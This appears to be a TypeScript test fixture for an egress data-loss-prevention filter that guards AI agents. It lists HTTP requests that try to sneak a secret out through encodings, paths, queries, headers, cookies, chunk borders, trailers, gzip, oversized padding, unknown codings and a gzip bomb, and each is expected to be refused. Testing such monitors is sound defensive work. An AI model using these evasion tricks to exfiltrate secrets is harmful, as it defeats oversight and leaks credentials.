import { gzipSync } from 'node:zlib';
import { DEALINGS, ENCODINGS } from '../sidecars/egress/dlp/encodings.ts';
import { SECRET } from './attacked-fleet.ts';
import { GUARDED } from './attacked-upstreams.ts';
import type { RequestAttack } from './request-attacks.ts';

/** Of the same shape as the secret, and nobody's. */
export const HARMLESS = 'b0rder-hunter7-of-the-garden-path';
const REFUSED = /^HTTP\/1\.1 (?:400|403|413) /;
const MEBIBYTE = 2 ** 20;
const HOST = `Host: ${GUARDED}\r\n`;

/** A secret that the agent got somehow, sent to where it may send anything but that. */
export const LEAK_ATTACKS: readonly RequestAttack[] = [
  ...Object.entries({ ...ENCODINGS, ...DEALINGS }).map(([name, encode]) =>
    leak(`as ${name}`, (text) => posted(encode(text))),
  ),
  leak('in the path', (text) => `GET /${text} HTTP/1.1\r\n${HOST}\r\n`),
  leak(
    'in the query',
    (text) => `GET /x?a=${ENCODINGS['percent']?.(text)} HTTP/1.1\r\n${HOST}\r\n`,
  ),
  leak('in a value of a header', (text) => `GET /x HTTP/1.1\r\n${HOST}X-Note: ${text}\r\n\r\n`),
  leak('in the name of a header', (text) => `GET /x HTTP/1.1\r\n${HOST}${text}: note\r\n\r\n`),
  leak('in a cookie, as base64', (text) => {
    const value = Buffer.from(text).toString('base64');
    return `GET /x HTTP/1.1\r\n${HOST}Cookie: id=${value}\r\n\r\n`;
  }),
  leak('over the borders of chunks', (text) =>
    chunked([...text].map((letter) => `1\r\n${letter}\r\n`).join(''), ''),
  ),
  leak('in a trailer', (text) => chunked('1\r\nx\r\n', `X-Note: ${text}\r\n`)),
  leak('in gzip', (text) => posted(gzipSync(text), 'Content-Encoding: gzip\r\n')),
  leak('after a mebibyte of other text', (text) => posted(`${'x '.repeat(MEBIBYTE / 2)}${text}`)),
  {
    ...leak(
      'in more than is looked into',
      () => `POST /x HTTP/1.1\r\n${HOST}${length(9 * MEBIBYTE)}\r\n`,
    ),
    twin: exchange(posted(HARMLESS)),
  },
  {
    ...leak('in a coding that nobody knows', (text) =>
      posted(text, 'Content-Encoding: none-such\r\n'),
    ),
    twin: exchange(posted(HARMLESS)),
  },
  {
    ...leak('in gzip that expands without end', () =>
      posted(gzipSync(Buffer.alloc(64 * MEBIBYTE)), 'Content-Encoding: gzip\r\n'),
    ),
    twin: exchange(posted(gzipSync(Buffer.alloc(MEBIBYTE)), 'Content-Encoding: gzip\r\n')),
  },
];

function leak(name: string, send: (text: string) => string): RequestAttack {
  return {
    name: `a secret ${name}`,
    ...exchange(send(SECRET)),
    meets: REFUSED,
    twin: exchange(send(HARMLESS)),
  };
}

function exchange(send: string): Pick<RequestAttack, 'tunnel' | 'send'> {
  return { tunnel: { target: GUARDED }, send };
}

function length(bytes: number): string {
  return `Content-Length: ${bytes}\r\n`;
}

/** Exchanges are bytes, a letter each. */
function posted(body: string | Buffer, more = ''): string {
  const bytes = Buffer.from(body);
  const head = `POST /x HTTP/1.1\r\n${HOST}${more}${length(bytes.length)}\r\n`;
  return head + bytes.toString('latin1');
}

function chunked(chunks: string, trailers: string): string {
  return `POST /x HTTP/1.1\r\n${HOST}Transfer-Encoding: chunked\r\n\r\n${chunks}0\r\n${trailers}\r\n`;
}
